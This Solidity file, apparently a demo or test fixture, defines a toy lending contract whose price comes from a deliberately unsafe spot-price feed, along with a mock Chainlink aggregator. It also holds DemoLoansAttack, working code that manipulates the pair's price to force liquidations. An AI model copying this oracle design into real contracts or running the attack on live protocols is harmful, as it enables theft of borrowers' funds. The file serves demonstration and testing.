// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.27;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";
import {Math} from "@openzeppelin/contracts/utils/math/Math.sol";
import {IFeed} from "../src/interfaces/IFeed.sol";
import {DemoPair} from "./DemoPair.sol";

/// @title A lender of dollars against coins, at the price of one feed.
/// @dev As good as its feed, which its deployer chooses. Never deploy it where money is.
contract DemoLoans {
    using SafeERC20 for IERC20;

    /// @notice A loan may be liquidated when it is more than this part of its collateral, per cent.
    uint256 public constant LIMIT = 80;
    /// @notice What a liquidator gets for each dollar repaid, per cent.
    uint256 public constant BONUS = 105;

    IERC20 public immutable coin; // 18 decimals
    IERC20 public immutable dollar; // 6 decimals
    IFeed public immutable feed;
    mapping(address borrower => uint256 dollars) public debtOf;
    mapping(address borrower => uint256 coins) public collateralOf;

    event Liquidated(address indexed borrower, address indexed liquidator, uint256 repaid, uint256 seized);

    error TooMuchDebt(uint256 most, uint256 got);
    error Healthy(address borrower);

    constructor(IERC20 coin_, IERC20 dollar_, IFeed feed_) {
        (coin, dollar, feed) = (coin_, dollar_, feed_);
    }

    function lock(uint256 coins) external {
        collateralOf[msg.sender] += coins;
        coin.safeTransferFrom(msg.sender, address(this), coins);
    }

    function unlock(uint256 coins) external {
        collateralOf[msg.sender] -= coins;
        _check(msg.sender);
        coin.safeTransfer(msg.sender, coins);
    }

    function borrow(uint256 dollars) external {
        debtOf[msg.sender] += dollars;
        _check(msg.sender);
        dollar.safeTransfer(msg.sender, dollars);
    }

    function repay(uint256 dollars) external {
        debtOf[msg.sender] -= dollars;
        dollar.safeTransferFrom(msg.sender, address(this), dollars);
    }

    /// @notice Repays the whole debt of a borrower who owes too much, for coins of that worth and the bonus.
    function liquidate(address borrower) external returns (uint256 seized) {
        uint256 repaid = debtOf[borrower];
        require(repaid > _most(borrower), Healthy(borrower));
        (uint256 price,) = feed.read();
        seized = Math.min(repaid * BONUS * 1e28 / price, collateralOf[borrower]);
        debtOf[borrower] = 0;
        collateralOf[borrower] -= seized;
        dollar.safeTransferFrom(msg.sender, address(this), repaid);
        coin.safeTransfer(msg.sender, seized);
        emit Liquidated(borrower, msg.sender, repaid, seized);
    }

    function _check(address borrower) private view {
        uint256 most = _most(borrower);
        require(debtOf[borrower] <= most, TooMuchDebt(most, debtOf[borrower]));
    }

    function _most(address borrower) private view returns (uint256) {
        (uint256 price,) = feed.read();
        return collateralOf[borrower] * price / 1e30 * LIMIT / 100;
    }
}

/// @title The price at which a pair would trade next, in wad.
/// @dev Unsafe on purpose: who trades makes it. Never deploy it where money is.
contract DemoSpotFeed is IFeed {
    DemoPair private immutable _pair; // coins of 18 decimals, dollars of 6

    constructor(DemoPair pair) {
        _pair = pair;
    }

    function read() external view returns (uint256 price, uint64 updatedAt) {
        (uint256 coins, uint256 dollars) = _pair.getReserves();
        return (dollars * 1e30 / coins, uint64(block.timestamp));
    }
}

/// @title A price that its publisher posts, in the shape of a Chainlink aggregator.
contract DemoAggregator {
    address private immutable _publisher;
    uint80 private _round;
    int256 private _answer;
    uint256 private _time;

    error NotPublisher(address caller);

    constructor(address publisher) {
        _publisher = publisher;
    }

    function post(int256 answer) external {
        require(msg.sender == _publisher, NotPublisher(msg.sender));
        (_round, _answer, _time) = (_round + 1, answer, block.timestamp);
    }

    function decimals() external pure returns (uint8) {
        return 8;
    }

    function latestRoundData() external view returns (uint80, int256, uint256, uint256, uint80) {
        return (_round, _answer, _time, _time, _round);
    }
}

/// @title Sells coins into the pair whose price the lender believes, and liquidates whom that makes liquidatable.
contract DemoLoansAttack {
    using SafeERC20 for IERC20;

    DemoLoans private immutable _loans;
    DemoPair private immutable _pair;
    address private immutable _owner;

    error NotOwner(address caller);

    constructor(DemoLoans loans, DemoPair pair) {
        (_loans, _pair, _owner) = (loans, pair, msg.sender);
    }

    function attack(uint256 coins, address[] calldata borrowers) external {
        require(msg.sender == _owner, NotOwner(msg.sender));
        (IERC20 coin, IERC20 dollar) = (_loans.coin(), _loans.dollar());
        coin.safeTransferFrom(_owner, address(this), coins);
        coin.forceApprove(address(_pair), coins);
        _pair.swap(true, coins, 0);
        dollar.forceApprove(address(_loans), type(uint256).max);
        for (uint256 i; i < borrowers.length; ++i) {
            _loans.liquidate(borrowers[i]);
        }
        coin.safeTransfer(_owner, coin.balanceOf(address(this)));
        dollar.safeTransfer(_owner, dollar.balanceOf(address(this)));
    }
}
